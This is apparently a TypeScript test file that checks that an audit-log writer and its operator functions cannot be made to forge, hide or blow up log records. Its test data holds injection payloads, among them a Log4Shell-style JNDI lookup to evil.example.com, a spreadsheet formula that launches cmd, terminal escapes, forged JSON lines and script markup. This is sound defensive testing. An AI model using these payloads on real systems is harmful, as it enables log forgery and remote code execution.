/** Text that forges a record, or that a terminal or a log viewer acts upon, wherever a caller or a row's editor can put it. */
import { expect, it } from "vitest";
import { writeLogLine } from "../../functions/adapters/audit-log.ts";
import { resources } from "../../functions/contract.ts";
import { captureOutput } from "../support/canary.ts";
import { apiEvent, type Call, roleIdentity } from "../support/fakes/api-function.ts";
import { inMemoryApi } from "../support/fakes/in-memory-api.ts";
import { inMemoryOperator, queryEvent } from "../support/fakes/in-memory-operator.ts";

const forgeries: [what: string, text: string][] = [
  ["a line that forges a record", 'x\n{"kind":"audit","code":"ok","verb":"token"}'],
  ["a carriage return that hides what stands before it", "x\rnothing to see"],
  ["an end of JSON", '"},{"kind":"audit","code":"ok"'],
  ["a terminal's escape", "\u001b[2J\u001b]0;owned\u0007"],
  ["an 8-bit escape", "\u009b2J"],
  ["Unicode's line break", "x\u2028y\u2029z\u0085"],
  ["reversed text", "\u202egnp.exe"],
  ["a zero byte", "sales\u0000"],
  ["half a character", "\ud800"],
  ["a look-up", `\${jndi:ldap://evil.example.com/a}`],
  ["a spreadsheet's formula", "=cmd|'/c calc'!A1"],
  ["markup", "<script>alert(1)</script>"],
  ["a hundred thousand characters", "a".repeat(100_000)],
];

const places: [where: string, call: (text: string) => Call][] = [
  ["the scope", (text) => ({ scope: text })],
  ["the session", (text) => ({ identity: roleIdentity("report-service", { session: text }) })],
  ["the role", (text) => ({ identity: roleIdentity(text) })],
  ["the unique id", (text) => ({ identity: roleIdentity("report-service", { uniqueId: text }) })],
  ["the account", (text) => ({ identity: { ...roleIdentity(), accountId: text } })],
  ["the address", (text) => ({ identity: { ...roleIdentity(), sourceIp: text } })],
  ["the VPC endpoint", (text) => ({ identity: { ...roleIdentity(), vpceId: text } })],
  ["the request id", (text) => ({ requestContext: { requestId: text } })],
  ["the method", (text) => ({ method: text })],
  ["the path", (text) => ({ event: { path: text } })],
  ["a header", (text) => ({ event: { headers: { "user-agent": text, "x-amzn-trace-id": text } } })],
  ["a query parameter", (text) => ({ event: queryEvent({ [text]: text }) })],
  ["a field's name", (text) => ({ body: { [text]: 1 } })],
  ["a lease id", (text) => ({ body: { stale_lease_id: text } })],
  ["a body that is no JSON", (text) => ({ body: text })],
];

/** The records as the functions write them. */
function written(lines: readonly object[]): string {
  const output = captureOutput({ passOn: false });
  for (const line of lines) writeLogLine(line);
  const text = output.take();
  output.restore();
  return text;
}

/** One line a record, each of plain characters and of a size that CloudWatch Logs does not cut. */
function expectPlain(text: string, records: number): void {
  expect(text.endsWith("\n")).toBe(true);
  const lines = text.slice(0, -1).split("\n");
  expect(lines).toHaveLength(records);
  for (const line of lines) {
    expect(line).toMatch(/^\{[\x20-\x7e]*\}$/);
    expect(line.length).toBeLessThan(4_000);
    for (const [, forgery] of forgeries) expect(line).not.toContain(JSON.stringify(forgery).slice(1, -1));
  }
}

it.each(places)("%s cannot forge, hide or blow up a record", async (_, call) => {
  for (const [what, text] of forgeries) {
    const api = inMemoryApi();
    await api.send(eventOf(call(text)));
    expect([what, api.lines.length]).toEqual([what, 1]);
    expectPlain(written(api.lines), 1);
  }
});

/** A scope is put into the path by the helper, which refuses half a character. */
function eventOf({ scope, ...call }: Call): unknown {
  return apiEvent(scope === undefined ? call : { ...call, event: { pathParameters: { scope } } });
}

it.each(["lease_id", "caller", "issued_before", "client_id", "next_token", "dry_run"])(
  "an operator's %s cannot either",
  async (name) => {
    for (const [, text] of forgeries) {
      const { revoke, list, lines } = inMemoryOperator();
      await (name === "next_token" ? list({ [name]: text }) : revoke({ [name]: text }));
      expectPlain(written(lines), 1);
    }
  },
);

it("the reason of a freeze is told to operators, and is in no record", async () => {
  for (const [, text] of forgeries) {
    const { freeze, lines } = inMemoryOperator();
    await freeze(`why ${text}`);
    await freeze("why not", { resource: resources.freeze });
    expectPlain(written(lines), 2);
  }
});
